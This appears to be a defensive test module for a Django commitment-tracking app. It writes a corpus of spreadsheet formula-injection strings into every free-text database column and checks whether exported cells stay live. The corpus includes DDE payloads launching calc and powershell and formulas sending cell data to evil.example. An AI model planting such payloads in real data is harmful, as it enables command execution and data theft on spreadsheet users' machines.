"""Texts that a spreadsheet might run, put into all that somebody may write, and how to see whether one is live."""

from __future__ import annotations

import itertools
import re
import unicodedata
from typing import Any

from django.apps import apps
from django.db import models

from tests.factories import (
    make_applicability,
    make_assessment,
    make_commitment,
    make_deadline,
    make_indicator,
    make_measurement,
    make_milestone,
    make_objective,
    make_organization,
    make_party,
    make_source,
    make_update,
    the_editor,
)
from tests.reporting import make_reply, the_lead, the_member
from tracker.actions import records, reports
from tracker.actions.derive import together
from tracker.models import (
    Event,
    EvidenceFile,
    Report,
    ReportLink,
    ReportMeasurement,
    ReportMilestone,
)
from tracker.rules import OPERATOR

CORPUS = (
    "=1+1",
    "+1",
    "+1+1",
    "-2+3",
    "-cmd",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\xa0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    '"=1+1',
    "'=1+1",
    "“=1+1”",
    "« =1+1 »",
    "＝1+1",
    "＋1",
    "－2+3",
    "＠SUM(A1)",
    "﹦1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/c powershell'!'A1'",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    '=IMPORTXML(CONCAT(A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "a;=1+1",
    "a\t=cmd|' /C calc'!A0",
    "a\n-2+3",
    'a;"=1+1"',
)
PLAIN = (
    "a=b",
    'a","=1+1',
    "1 + 1",
    "",
    "é",
    "’quoted’",
    "a;b",
    "one - two",
    "5 % - 6 %",
    "line\nline",
    "x@example.org",
)

SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"
NUMBER = re.compile(r"-?\d+(\.\d+)?", re.ASCII)


def is_live(cell: str) -> bool:
    """By a rule of its own: what is seen of it begins with a sign, and it is no number. Programs that part cells at
    semicolons, tabs and line ends see several."""
    return any(_begins_live(part) for part in re.split(r"[;\t\r\n]", cell)) and not NUMBER.fullmatch(cell)


def _begins_live(text: str) -> bool:
    hidden = "".join(itertools.takewhile(_hides, text))
    return "'" not in hidden and text[len(hidden) : len(hidden) + 1] in tuple(SIGNS)


def _hides(letter: str) -> bool:
    return (
        letter in "\"'`´"
        or unicodedata.category(letter)[0] in "ZC"
        or unicodedata.category(letter) in ("Pi", "Pf")
    )


@together()
def make_everything() -> Report:
    """One of each thing that is told in public, in one commitment with two parties; the report that is published."""
    with together():
        commitment = make_commitment(1)
        lab = make_organization("some-lab")
        make_party(commitment, lab, "signatory")
        make_party(commitment, "other-lab")
        aim = make_objective(commitment)
        make_applicability(aim, "other-lab")
        step = make_milestone(commitment, due_on="2026-03-31")
        make_deadline(step, "2026-06-30", announced_on="2025-06-01", note="A note")
        money = make_indicator(commitment)
        make_measurement(money, "-12.5", note="A note")
        make_measurement(money, None, absence_reason="Nobody says", claimed_by="party")
        make_indicator(commitment, unit="pages", unit_kind="count")
        make_update(commitment, organization=lab, claimed_by="party")
        verdict = make_assessment(commitment, "no_evidence", searched_note_en="Everywhere")
        make_reply(verdict, lab, contests=True)
        make_commitment(2, parent=commitment)
        records.create(
            Event(
                slug="a-meeting",
                name_en="A meeting",
                starts_on="2026-12-01",
                kind="conference",
                city="Paris",
                country="FR",
                source=make_source(),
            ),
            by=OPERATOR,
        )
    return _report(commitment, lab, aim, money, step)


def _report(commitment: Any, lab: Any, aim: Any, money: Any, step: Any) -> Report:
    report = reports.start(lab, commitment, by=the_member(lab), objective=None)
    words = {
        "claimed_status": "substantial",
        "happened_on": step.deadlines.first().due_on,
        "headline": "The first half",
        "detail": "What happened",
        "next_step": "What is next",
        "barrier": "other",
        "barrier_note": "A barrier",
    }
    report = reports.write(
        report,
        by=the_member(lab),
        values=words,
        links=[ReportLink(url="https://example.org/shown", title="A page", publisher="A press")],
        measurements=[ReportMeasurement(indicator=money, value=5, as_of="2026-03-31", note="A note")],
        claims=[ReportMilestone(milestone=step, achieved_on="2026-03-31")],
    )
    file = EvidenceFile(
        name="a.pdf", title="A file", content_type="application/pdf", size=1, sha256="0" * 64, file="00/none"
    )
    reports.attach(report, file, by=the_member(lab))
    report = reports.submit(report, by=the_lead(lab), attested=True)
    return reports.publish(report, by=the_editor())


KEPT = {"slug", "key", "reference", "country", "language", "sha256", "capture_sha256", "content_type", "file"}
"""Texts that have a form of their own, which nothing of this kind fits."""
MODELS = (
    *("commitment", "organization", "pillar", "topic", "source", "update", "milestone", "deadline"),
    *("objective", "applicability", "indicator", "measurement", "assessment", "event", "report"),
    *("reportlink", "evidencefile", "reportmeasurement", "reply"),
)


def free_texts() -> list[tuple[type[models.Model], models.Field]]:
    """Every column of these that somebody may write anything into."""
    found = []
    for name in MODELS:
        model = apps.get_model("tracker", name)
        for field in model._meta.concrete_fields:
            written = isinstance(field, models.CharField | models.TextField) and not field.choices
            if (
                written
                and not isinstance(field, models.URLField | models.SlugField)
                and field.name not in KEPT
            ):
                found.append((model, field))
    return found


ONLY: dict[tuple[str, str], dict[str, Any]] = {
    ("Indicator", "unit"): {"unit_kind": "count"},
    ("Measurement", "absence_reason"): {"value": None},
    ("Measurement", "chosen_because_en"): {"value__isnull": False},
    ("Measurement", "chosen_because_fr"): {"value__isnull": False},
}
"""Columns that the database lets be filled in some rows alone."""


def poison(start: int) -> set[str]:
    """Write the corpus over all of it, beginning with the text of that number; what was written."""
    texts = itertools.cycle(CORPUS[start:] + CORPUS[:start])
    written = set()
    for model, field in free_texts():
        text = next(texts)
        rows = model._base_manager.all()
        rows = rows.filter(**ONLY.get((model.__name__, field.name), {}))
        if len(text) > (field.max_length or len(text)):
            text = "=1+1"
        rows.update(**{field.name: text})
        written.add(text)
    return written
